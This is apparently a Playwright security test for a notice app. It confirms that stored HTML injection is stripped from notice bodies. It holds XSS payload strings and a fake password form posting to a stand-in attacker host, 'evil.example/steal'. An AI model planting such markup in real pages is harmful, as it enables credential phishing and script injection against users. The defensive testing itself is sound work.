import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { launch, SHOTS, signIn, startServer, type Server } from './support.ts';

const shot = async (page: Page, name: string) => {
  await page.waitForTimeout(600);
  await page.screenshot({ path: path.join(SHOTS, `${name}.png`), fullPage: true });
};

/** The payloads: nested tags, an external (phishing) link, a form with a password field. */
const PAYLOAD = [
  '<p>请各党支部于本月底前完成专题学习，并报送学习情况。</p>',
  '<p>重点：<strong>学原文、读原著</strong>。<<img src=x onerror=alert(1)>img></p>',
  '<ul><li>集中学习不少于两次</li><li>每名党员撰写学习体会</li></ul>',
  '<img/src=x/onerror=alert(2)>',
  '<p onclick="alert(3)" onmouseover="alert(4)">材料报送地址：<a href="https://evil.example/login" target="_self">统一登录入口</a></p>',
  '<p>本站链接：<a href="/notices">通知公告</a>；危险链接：<a href="javascript:alert(5)">点此查看</a></p>',
  '<form action="https://evil.example/steal"><p>会话已过期，请重新输入密码</p><input type="password" name="p"><button>确定</button></form>',
  '<svg><script>alert(6)</script></svg><!--<img src=x onerror=alert(7)>-->',
].join('');

interface Inspection {
  html: string;
  imgs: number;
  forms: number;
  inputs: number;
  scripts: number;
  handlers: string[];
  jsLinks: number;
  links: Array<{ href: string | null; rel: string | null; target: string | null; cls: string | null; mark: string }>;
}

/** Looks at what the browser actually put into the notice body. */
const inspect = (page: Page): Promise<Inspection> =>
  page.evaluate(() => {
    const body = document.querySelector('.notice-paper .richtext-body')!;
    const all = Array.from(body.querySelectorAll('*'));
    return {
      html: body.innerHTML,
      imgs: body.querySelectorAll('img').length,
      forms: body.querySelectorAll('form').length,
      inputs: body.querySelectorAll('input, button, textarea, select').length,
      scripts: body.querySelectorAll('script, svg, iframe, object, embed').length,
      handlers: all.flatMap((el) =>
        Array.from(el.attributes)
          .filter((a) => /^on/i.test(a.name))
          .map((a) => `${el.tagName}[${a.name}]`),
      ),
      jsLinks: all.filter((el) => Array.from(el.attributes).some((a) => /javascript:/i.test(a.value))).length,
      links: Array.from(body.querySelectorAll('a')).map((a) => ({
        href: a.getAttribute('href'),
        rel: a.getAttribute('rel'),
        target: a.getAttribute('target'),
        cls: a.getAttribute('class'),
        mark: getComputedStyle(a, '::after').content,
      })),
    };
  });

function expectHarmless(r: Inspection) {
  expect(r.imgs, r.html).toBe(0);
  expect(r.forms, r.html).toBe(0);
  expect(r.inputs, r.html).toBe(0);
  expect(r.scripts, r.html).toBe(0);
  expect(r.handlers, r.html).toEqual([]);
  expect(r.jsLinks, r.html).toBe(0);
  expect(r.html).not.toContain('重新输入密码');
  expect(r.links.length, r.html).toBe(3);
  for (const l of r.links) {
    expect(l.rel?.split(/\s+/)).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
    expect(l.target).toBe('_blank');
  }
  const external = r.links.find((l) => l.href === 'https://evil.example/login')!;
  expect(external.cls).toBe('external');
  expect(external.mark).toContain('外部链接');
  const local = r.links.find((l) => l.href === '/notices')!;
  expect(local.cls).toBeNull();
  expect(local.mark).toBe('none');
  // The javascript: link lost its href and is inert text.
  expect(r.links.find((l) => l.href === null)).toBeTruthy();
}

/**
 * Stored HTML injection (security issue): an office sends a notice whose body carries the
 * payloads; the branch secretary opens it in Chromium, at desk and at phone width. Nothing of the
 * markup survives, no script ran, and the external link is marked and opens without an opener.
 * A tampered API answer (raw payload, as a row stored before the fix would have been) is caught
 * by the browser's own sanitizer.
 */
describe('stored HTML injection in notices (Chromium)', () => {
  let server: Server;
  let browser: Browser;
  let noticeId: number;
  const dialogs: string[] = [];

  beforeAll(async () => {
    server = await startServer(3191);
    browser = await launch();
    // The district office sends the notice through the API, as a script would.
    const ctx = await browser.newContext();
    const login = await ctx.request.post(`${server.url}/api/auth/login`, {
      data: { username: 'district', password: 'massline2026' },
    });
    expect(login.status()).toBe(200);
    const { csrfToken } = (await login.json()) as { csrfToken: string };
    const me = (await (await ctx.request.get(`${server.url}/api/me`)).json()) as { grants: Array<{ orgId: number }> };
    const res = await ctx.request.post(`${server.url}/api/notices`, {
      data: {
        kind: 'notice',
        orgId: me.grants[0].orgId,
        audience: 'subtree',
        title: '关于开展专题学习的通知',
        docNumber: '城组通〔2026〕9号',
        body: PAYLOAD,
      },
      headers: { 'x-csrf-token': csrfToken },
    });
    expect(res.status(), await res.text()).toBe(201);
    noticeId = ((await res.json()) as { id: number }).id;
    await ctx.close();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  async function openAsSecretary(ctx: BrowserContext): Promise<Page> {
    const page = await ctx.newPage();
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await signIn(page, server.url, 'secretary');
    return page;
  }

  it('the recipient’s notice page shows none of the payloads, at desk width', async () => {
    const ctx = await browser.newContext({ viewport: { width: 1366, height: 900 }, locale: 'zh-CN' });
    const page = await openAsSecretary(ctx);
    await page.goto(`${server.url}/notices/${noticeId}`);
    await page.getByTestId('notice-title-view').waitFor();
    await page.locator('.notice-paper .richtext-body p').first().waitFor();
    const r = await inspect(page);
    expectHarmless(r);
    expect(r.html).toContain('学原文、读原著');
    await page.locator('.notice-paper a.external').hover();
    await shot(page, 'zh-sanitize-notice-desk');
    expect(dialogs).toEqual([]);
    await ctx.close();
  });

  it('and at phone width', async () => {
    const ctx = await browser.newContext({
      viewport: { width: 390, height: 844 },
      deviceScaleFactor: 2,
      isMobile: true,
      hasTouch: true,
      locale: 'zh-CN',
    });
    const page = await openAsSecretary(ctx);
    await page.goto(`${server.url}/notices/${noticeId}`);
    await page.getByTestId('notice-title-view').waitFor();
    await page.locator('.notice-paper .richtext-body p').first().waitFor();
    expectHarmless(await inspect(page));
    await shot(page, 'zh-sanitize-notice-phone');
    expect(dialogs).toEqual([]);
    await ctx.close();
  });

  it('the browser sanitizes again: a raw payload in the API answer is not inserted as it came', async () => {
    const ctx = await browser.newContext({ viewport: { width: 1366, height: 900 }, locale: 'zh-CN' });
    const page = await openAsSecretary(ctx);
    // The answer as an unsanitized row would have given it (the server is bypassed here).
    let tampered = 0;
    await page.route(`**/api/notices/${noticeId}`, async (route) => {
      if (route.request().method() !== 'GET') return route.continue();
      const res = await route.fetch();
      const json = (await res.json()) as { body: string };
      tampered++;
      await route.fulfill({ response: res, json: { ...json, body: PAYLOAD } });
    });
    await page.goto(`${server.url}/notices/${noticeId}`);
    await page.getByTestId('notice-title-view').waitFor();
    await page.locator('.notice-paper .richtext-body p').first().waitFor();
    expect(tampered).toBeGreaterThan(0);
    expectHarmless(await inspect(page));
    await page.waitForTimeout(300);
    expect(dialogs).toEqual([]);
    await ctx.close();
  });
});
